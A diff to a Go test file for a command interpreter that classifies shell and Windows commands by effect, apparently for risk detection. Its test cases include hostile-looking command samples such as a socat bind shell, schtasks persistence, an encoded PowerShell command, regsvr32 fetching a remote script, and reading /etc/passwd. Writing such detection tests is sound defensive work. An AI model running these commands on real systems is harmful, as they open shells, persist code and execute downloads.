@@ -143,7 +143,7 @@ func FuzzInterpret(f *testing.F) {
 		if !slices.Equal(words, before) {
 			t.Fatal("the arguments were changed")
 		}
-		if u.Known && (u.Reason != "" || u.Class == effect.Unknown) || !u.Known && u.Reason == "" {
+		if u.Known && (u.Reason != "" || u.Class == effect.Unknown && !u.Windows) || !u.Known && u.Reason == "" {
 			t.Fatalf("known %t, class %q, reason %q", u.Known, u.Class, u.Reason)
 		}
 		from := map[effect.Span]bool{}
@@ -170,5 +170,75 @@ func BenchmarkInterpret(b *testing.B) {
 				Interpret(words)
 			}
 		})
+	}
+}
+
+func TestOfWindows(t *testing.T) {
+	for name, want := range map[string]string{"find": "cmd:find", "DEL": "cmd:del", "reg": "reg", "psexec64": "psexec64", "git": "", "nosuch": ""} {
+		if got, ok := OfWindows(name); ok != (want != "") || ok && got != want {
+			t.Errorf("%s: %q, %t", name, got, ok)
+		}
+	}
+}
+
+func TestLanguage(t *testing.T) {
+	for name, want := range map[string]string{"python3.12": "python", "bash": "shell", "nu": "shell", "bun": "node", "uv": "python", "gawk": "awk", "ls": "", "nosuch": ""} {
+		if got := Language(name); got != want {
+			t.Errorf("%s reads %q, want %q", name, got, want)
+		}
+	}
+	for file, want := range map[string]string{"a.py": "python", "x/B.PS1": "powershell", "a": "", "a.py/x": "", "." + strings.Repeat("x", 300): ""} {
+		if got := FileLanguage(file); got != want {
+			t.Errorf("%.20s holds %q, want %q", file, got, want)
+		}
+	}
+}
+
+// TestSlash reads options as programs of Windows do.
+func TestSlash(t *testing.T) {
+	long := "x " + strings.Repeat("y", maxTexts)
+	for _, tt := range []struct{ command, want string }{
+		{"schtasks -CREATE -TR calc", "privileged, persist, cmd[calc]"},
+		{"schtasks /create /tr:calc", "privileged, persist, cmd[calc]"},
+		{"schtasks //create //tr calc", "privileged, persist, cmd[calc]"},
+		{"powershell –enc aQBkAA==", "unknown, encoded[aQBkAA==]"},
+		{"powershell /EncodedC aQBkAA==", "unknown, encoded[aQBkAA==]"},
+		{"findstr x /etc/passwd", "readonly, read_file /etc/passwd, out input"},
+		{"findstr - a", "readonly, read_file a, out input"},
+		{"schtasks /create /tr", "privileged, not understood, persist"},
+		{"tasklist /nosuch", "readonly, not understood"},
+		{"reg", "readonly"},
+		{"sc '\\\\h' query", "readonly"},
+		{"rundll32 " + long, "unknown, not understood"},
+		{"regsvr32 /i:'\"http://x.test/a\"b'", "unknown, dynamic, run_download, http_request http://x.test/a"},
+		{"certutil ftp://x http", "unknown"},
+		{"cmd /C", "unknown, in code"},
+	} {
+		if got := summary(Interpret(split(tt.command))); got != tt.want {
+			t.Errorf("%.60s\n got %s\nwant %s", tt.command, got, tt.want)
+		}
+	}
+}
+
+// TestRemotes judges words that name other machines, in their many forms.
+func TestRemotes(t *testing.T) {
+	for _, tt := range []struct{ command, want string }{
+		{"http POST x.test a=b c@f d=@g", "network, http_request x.test, read_file f, read_file g, out download"},
+		{"socat - TCP:h:80", "network, connect h, in upload, out download"},
+		{"socat EXEC:sh TCP-LISTEN:80", "network, remote_shell, listen 80, shell[sh], in upload, out download"},
+		{"socat FILE:a NOSUCH:b", "network, not understood, read_file a, write_file a, in upload, out download"},
+		{"git clone ext::sh", "network, write_file sh +below, shell[sh]"},
+		{"git clone foo::x", "network, not understood, write_file x +below"},
+		{"git clone file:///a", "network, read_file /a +below, write_file a +below"},
+		{"git clone ssh://u@h/x", "network, connect h, write_file x +below"},
+		{"rsync a rsync://h/x", "network, change_remote, read_file a, connect h"},
+		{"pip install 'x @ git+https://h.test/x'", "network, http_request https://h.test/x"},
+		{"aws s3 cp file:///a s3://b/c", "network, change_remote, read_file /a +below, http_request s3://b/c"},
+		{"docker run --mount type=bind,source=/,target=/x,readonly y", "local-write, read_file / +below"},
+		{"ssh -o RemoteCommand=id -o IdentityFile=k -o Nosuch=x h", "network, not understood, read_file k, connect h, remote shell[id], in upload, out download"},
+	} {
+		if got := summary(Interpret(split(tt.command))); got != tt.want {
+			t.Errorf("%s\n got %s\nwant %s", tt.command, got, tt.want)
+		}
 	}
 }
